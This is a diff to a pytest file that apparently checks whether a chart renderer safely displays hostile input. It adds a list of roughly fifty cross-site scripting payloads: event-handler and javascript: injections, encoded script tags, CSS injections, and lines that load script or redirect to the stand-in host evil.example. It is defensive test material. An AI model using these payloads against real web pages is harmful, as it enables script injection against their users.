@@ -31,6 +31,36 @@ HOSTILE = [
     "constructor",
     "%s%n{}`%00",
 ]
+HOSTILE += [
+    f"<{tag} {event}=window.__pwned=1>"
+    for tag, event in (
+        ("body", "onload"), ("details open", "ontoggle"), ("video src=x", "onerror"),
+        ("audio src=x", "onerror"), ("input autofocus", "onfocus"), ("marquee", "onstart"),
+        ("object data=x", "onerror"), ("select autofocus", "onfocus"),
+        ("style", "onload"), ("div tabindex=0 style=animation-name:x", "onanimationstart"),
+        ("svg><animate attributeName=x dur=1s", "onbegin"), ("img/src/", "onerror"),
+        ("IMG\tSRC=x", "oNeRrOr"), ("link rel=stylesheet href=x", "onerror"),
+        ("iframe src=x", "onload"), ("embed src=x", "onload"),
+        ("svg><image href=x", "onerror"), ("form><button autofocus", "onfocus"),
+    )
+] + [
+    "<iframe src=javascript:parent.__pwned=1>", "<a href=JaVaScRiPt:window.__pwned=1>x</a>",
+    "<form action=javascript:window.__pwned=1><input type=submit autofocus></form>",
+    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=import href=//evil.example>", "<script src=//evil.example/x.js></script>",
+    "<style>@import '//evil.example/x.css'</style>", "<img srcset='//evil.example/x 2x'>",
+    "<svg><script href=data:,window.__pwned=1 /></svg>", "<svg><use href='//evil.example#x'/>",
+    "<math href=javascript:window.__pwned=1>x</math>", "<noscript><p title='</noscript><img src=x "
+    "onerror=window.__pwned=1>'>", "<template><script>window.__pwned=1</script></template>",
+    "<!--><img src=x onerror=window.__pwned=1>-->", "<![CDATA[><img src=x onerror=__pwned=1>]]>",
+    "&lt;script&gt;window.__pwned=1&lt;/script&gt;", "&#60;img src=x onerror=window.__pwned=1&#62;",
+    "\\u003cscript\\u003ewindow.__pwned=1", "<\tscript>window.__pwned=1</script>",
+    "url(javascript:window.__pwned=1)", "red;background:url(//evil.example/x)",
+    "expression(window.__pwned=1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:__pwned=1",
+    "[x](vbscript:1) [y](data:text/html,x) ![z](//evil.example/z.png)", "//evil.example/x",
+    "<//evil.example/x>", "[a]: javascript:__pwned=1\n[a]", "`<img src=x onerror=__pwned=1>`",
+]  # fmt: skip
+assert len(HOSTILE) >= 60
 
 
 @pytest.fixture(scope="module")
@@ -81,7 +111,7 @@ def hostile(
                     {
                         "type": "scatter",
                         "x": HOSTILE,
-                        "y": [1] * 14,
+                        "y": [1] * len(HOSTILE),
                         "name": HOSTILE[1],
                         "line": {"color": HOSTILE[4], "dash": HOSTILE[0]},
                     },
@@ -168,6 +198,7 @@ LOOKS = {
     "light": {"color_scheme": "light"},
     "dark": {"color_scheme": "dark"},
     "narrow": {"viewport": {"width": 320, "height": 800}},
+    "forced colours": {"forced_colors": "active"},
 }
 
 
